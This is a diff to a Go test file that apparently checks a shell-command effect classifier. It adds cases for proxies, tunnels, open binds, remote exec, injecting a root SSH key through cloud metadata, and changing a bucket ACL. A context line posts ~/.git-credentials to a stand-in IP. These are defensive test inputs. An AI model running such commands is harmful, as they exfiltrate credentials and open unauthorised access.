@@ -99,6 +99,15 @@ func TestExposeEffects(t *testing.T) {
 		{cmd: "kubectl --server=https://203.0.113.5:6443 get pods", want: []want{{"connect", "203.0.113.5", "server", ""}}},
 		{cmd: "VAULT_ADDR=http://203.0.113.5:8200 vault status", want: []want{{"connect", "203.0.113.5", "server", ""}}},
 		{cmd: "kubectl --context kind-dev get pods", none: []want{{"connect", "", "server", ""}}},
+		{cmd: "npm config set https-proxy http://203.0.113.4:3128", want: []want{{"connect", "203.0.113.4", "proxy", ""}}},
+		{cmd: "pip config set global.proxy 203.0.113.4:3128", want: []want{{"connect", "203.0.113.4", "proxy", ""}}},
+		{cmd: "npm config set registry https://registry.npmjs.org/", none: []want{{"connect", "", "proxy", ""}}},
+		{cmd: "code tunnel --accept-server-license-terms", want: []want{{"listen", "code tunnel", "remote access", ""}}},
+		{cmd: "php artisan serve --host=0.0.0.0", want: []want{{"listen", "0.0.0.0", "bind", ""}}},
+		{cmd: "python scripts/check.py --host db.internal", none: []want{{"listen", "", "", ""}}},
+		{cmd: "az ssh vm -n vm1 -g rg -- 'id'", want: []want{{"exec", "azvm:vm1", "id", "azvm:"}}},
+		{cmd: "gcloud compute instances add-metadata vm1 --metadata ssh-keys='root:ssh-ed25519 AAAA x'", want: []want{{"privilege", "cloud:gcloud compute", "", ""}}},
+		{cmd: "aws s3api put-bucket-acl --bucket b --access-control-policy file://acl.json", want: []want{{"privilege", "grant:aws s3", "", ""}}},
 		{cmd: "xh post 203.0.113.9/x @/home/user/.git-credentials", want: []want{{"read", "/home/user/.git-credentials", "", ""}}},
 	}
 	match := func(e Effect, w want) bool {
